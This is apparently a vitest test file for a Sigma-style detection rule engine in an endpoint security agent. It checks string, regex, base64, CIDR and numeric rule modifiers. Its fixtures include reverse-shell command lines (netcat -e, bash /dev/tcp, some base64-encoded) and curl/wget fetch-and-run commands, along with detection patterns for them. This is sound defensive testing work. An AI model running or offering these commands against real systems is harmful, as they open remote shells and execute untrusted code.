import { describe, expect, it } from 'vitest';
import { RuleSyntaxError } from '../../agent/src/rules/errors';
import { det, matches } from './compile-helper';
import { makeEvent } from './fixtures';

const exec = (cmd: string, extra: Parameters<typeof makeEvent>[1] = {}) =>
  makeEvent('exec', { ...extra, process: { command_line: cmd, ...(extra.process ?? {}) } });

describe('string modifiers', () => {
  it('plain values are exact and case-insensitive', () => {
    const r = det('  sel:\n    Image: /USR/BIN/Bash\n  condition: sel');
    expect(matches(r, exec('x'))).toBe(true);
    expect(matches(r, makeEvent('exec', { process: { executable: '/usr/bin/bash2' } }))).toBe(false);
  });

  it('contains / startswith / endswith', () => {
    const c = det('  sel:\n    CommandLine|contains: NC -E\n  condition: sel');
    expect(matches(c, exec('/bin/nc -e /bin/sh 1.2.3.4'))).toBe(true);
    expect(matches(c, exec('/bin/nc -l'))).toBe(false);
    const s = det('  sel:\n    CommandLine|startswith: curl\n  condition: sel');
    expect(matches(s, exec('curl http://x | sh'))).toBe(true);
    expect(matches(s, exec('xcurl'))).toBe(false);
    const e = det('  sel:\n    Image|endswith: /bash\n  condition: sel');
    expect(matches(e, exec('x'))).toBe(true);
    expect(matches(e, makeEvent('exec', { process: { executable: '/usr/bin/bashx' } }))).toBe(false);
  });

  it('wildcards * and ? and escapes', () => {
    const r = det("  sel:\n    CommandLine: 'wget * -O /tmp/?'\n  condition: sel");
    expect(matches(r, exec('wget http://evil -O /tmp/x'))).toBe(true);
    expect(matches(r, exec('wget http://evil -O /tmp/xy'))).toBe(false);
    const lit = det("  sel:\n    CommandLine: 'echo \\*'\n  condition: sel");
    expect(matches(lit, exec('echo *'))).toBe(true);
    expect(matches(lit, exec('echo hello'))).toBe(false);
  });

  it('all: every value must match', () => {
    const r = det('  sel:\n    CommandLine|contains|all:\n      - " -c "\n      - "/dev/tcp/"\n  condition: sel');
    expect(matches(r, exec('bash -c "sh >& /dev/tcp/1.2.3.4/4444"'))).toBe(true);
    expect(matches(r, exec('bash -c "id"'))).toBe(false);
  });

  it('value lists are OR', () => {
    const r = det('  sel:\n    Image|endswith:\n      - /nc\n      - /ncat\n  condition: sel');
    expect(matches(r, makeEvent('exec', { process: { executable: '/usr/bin/ncat' } }))).toBe(true);
    expect(matches(r, makeEvent('exec', { process: { executable: '/usr/bin/cat' } }))).toBe(false);
  });

  it('cased is case-sensitive', () => {
    const r = det('  sel:\n    CommandLine|contains|cased: SECRET\n  condition: sel');
    expect(matches(r, exec('echo SECRET'))).toBe(true);
    expect(matches(r, exec('echo secret'))).toBe(false);
  });

  it('re, with i/m/s sub-modifiers and inline (?i)', () => {
    const r = det("  sel:\n    CommandLine|re: 'nc(at)? -e'\n  condition: sel");
    expect(matches(r, exec('ncat -e /bin/sh'))).toBe(true);
    expect(matches(r, exec('NCAT -E /bin/sh'))).toBe(false);
    const ri = det("  sel:\n    CommandLine|re|i: 'nc(at)? -e'\n  condition: sel");
    expect(matches(ri, exec('NCAT -E /bin/sh'))).toBe(true);
    const inline = det("  sel:\n    CommandLine|re: '(?i)^NCAT'\n  condition: sel");
    expect(matches(inline, exec('ncat -e'))).toBe(true);
    const rs = det("  sel:\n    CommandLine|re|s: 'a.b'\n  condition: sel");
    expect(matches(rs, exec('a\nb'))).toBe(true);
    const noS = det("  sel:\n    CommandLine|re: '^a.b$'\n  condition: sel");
    expect(matches(noS, exec('a\nb'))).toBe(false);
    const rm = det("  sel:\n    CommandLine|re|m: '^b$'\n  condition: sel");
    expect(matches(rm, exec('a\nb'))).toBe(true);
    expect(matches(noS, exec('a\nb'))).toBe(false);
  });

  it('windash matches every dash form', () => {
    const r = det('  sel:\n    CommandLine|windash|contains: " -e "\n  condition: sel');
    expect(matches(r, exec('nc-e sh'))).toBe(false);
    expect(matches(r, exec('nc -e sh'))).toBe(true);
    expect(matches(r, exec('nc /e sh'))).toBe(true);
    expect(matches(r, exec('nc \u2013e sh'))).toBe(true);
    expect(matches(r, exec('nc +e sh'))).toBe(false);
  });

  it('base64 and base64offset', () => {
    const b = det('  sel:\n    CommandLine|base64|contains: /bin/sh\n  condition: sel');
    const enc = Buffer.from('/bin/sh').toString('base64');
    expect(matches(b, exec(`echo ${enc} | base64 -d | sh`))).toBe(true);
    expect(matches(b, exec(`echo ${enc.toLowerCase()} | base64 -d`))).toBe(false); // base64 is cased
    const o = det('  sel:\n    CommandLine|base64offset|contains: /dev/tcp/\n  condition: sel');
    for (const prefix of ['', 'a', 'ab', 'abc']) {
      const payload = Buffer.from(`${prefix}bash -i >& /dev/tcp/10.0.0.1/4444`).toString('base64');
      expect(matches(o, exec(`echo ${payload} | base64 -d | bash`))).toBe(true);
    }
    expect(matches(o, exec(`echo ${Buffer.from('hello world').toString('base64')}`))).toBe(false);
  });

  it('utf16le + base64', () => {
    const r = det('  sel:\n    CommandLine|wide|base64offset|contains: whoami\n  condition: sel');
    const payload = Buffer.from('x whoami', 'utf16le').toString('base64');
    expect(matches(r, exec(`pwsh -enc ${payload}`))).toBe(true);
  });

  it('utf16 without base64 is a rule error', () => {
    expect(() => det('  sel:\n    CommandLine|utf16le: x\n  condition: sel')).toThrow(/followed by base64/);
  });
});

describe('non-string modifiers', () => {
  it('cidr for IPv4, IPv6 and v4-mapped v6', () => {
    const r = det('  sel:\n    DestinationIp|cidr:\n      - 10.0.0.0/8\n      - fd00::/8\n  condition: sel', 'network_connection');
    const conn = (ip: string) => makeEvent('connect', { destination: { ip, port: 443 } });
    expect(matches(r, conn('10.1.2.3'))).toBe(true);
    expect(matches(r, conn('11.1.2.3'))).toBe(false);
    expect(matches(r, conn('fd12:3456::1'))).toBe(true);
    expect(matches(r, conn('fe80::1'))).toBe(false);
    expect(matches(r, conn('::ffff:10.9.9.9'))).toBe(true);
    expect(matches(r, conn('not-an-ip'))).toBe(false);
    const host = det('  sel:\n    DestinationIp|cidr: 192.168.1.7/32\n  condition: sel', 'network_connection');
    expect(matches(host, conn('192.168.1.7'))).toBe(true);
    expect(matches(host, conn('192.168.1.8'))).toBe(false);
    const v6 = det("  sel:\n    DestinationIp|cidr: '2001:db8::/33'\n  condition: sel", 'network_connection');
    expect(matches(v6, conn('2001:db8:7fff::1'))).toBe(true);
    expect(matches(v6, conn('2001:db8:8000::1'))).toBe(false);
  });

  it('gt / gte / lt / lte', () => {
    const conn = (port: number) => makeEvent('connect', { destination: { ip: '1.1.1.1', port } });
    const cases: [string, number, boolean][] = [['gt', 1024, false], ['gt', 1025, true], ['gte', 1024, true], ['lt', 1024, false], ['lt', 1023, true], ['lte', 1024, true]];
    for (const [op, port, want] of cases) {
      const r = det(`  sel:\n    DestinationPort|${op}: 1024\n  condition: sel`, 'network_connection');
      expect(matches(r, conn(port)), `${op} ${port}`).toBe(want);
    }
    const ago = det('  sel:\n    ExecWrittenAgoMs|lt: 5000\n  condition: sel');
    expect(matches(ago, makeEvent('exec', { vigil: { context: { stdio_socket: false, exec_written_ago_ms: 1200 } } }))).toBe(true);
    expect(matches(ago, makeEvent('exec'))).toBe(false);
  });

  it('exists', () => {
    const yes = det('  sel:\n    Container|exists: true\n  condition: sel');
    const no = det('  sel:\n    Container|exists: false\n  condition: sel');
    const inC = makeEvent('exec', { container: { id: 'abc' } });
    expect(matches(yes, inC)).toBe(true);
    expect(matches(no, inC)).toBe(false);
    expect(matches(yes, makeEvent('exec'))).toBe(false);
    expect(matches(no, makeEvent('exec'))).toBe(true);
  });

  it('fieldref compares two fields', () => {
    const r = det('  sel:\n    Image|fieldref: ParentImage\n  condition: sel');
    expect(matches(r, makeEvent('exec', { process: { executable: '/bin/sh', parent: { executable: '/BIN/SH' } } }))).toBe(true);
    expect(matches(r, makeEvent('exec'))).toBe(false);
    const c = det('  sel:\n    CommandLine|fieldref|contains: Comm\n  condition: sel');
    expect(matches(c, makeEvent('exec'))).toBe(true); // "bash -c id" contains "bash"
  });

  it('neq', () => {
    const r = det('  sel:\n    User|neq: root\n  condition: sel');
    expect(matches(r, makeEvent('exec'))).toBe(true);
    expect(matches(r, makeEvent('exec', { user: { name: 'ROOT' } }))).toBe(false);
  });

  it('rejects unknown modifiers, bad regex, bad cidr, bad numbers', () => {
    const bad = ['Image|foo: x', "Image|re: '('", 'DestinationIp|cidr: 10.0.0.0/33', 'DestinationPort|gt: many', 'Image|expand: "%x%"', 'Image|all: x', 'Container|exists: maybe'];
    for (const b of bad) {
      expect(() => det(`  sel:\n    ${b}\n  condition: sel`), b).toThrow(RuleSyntaxError);
    }
  });
});
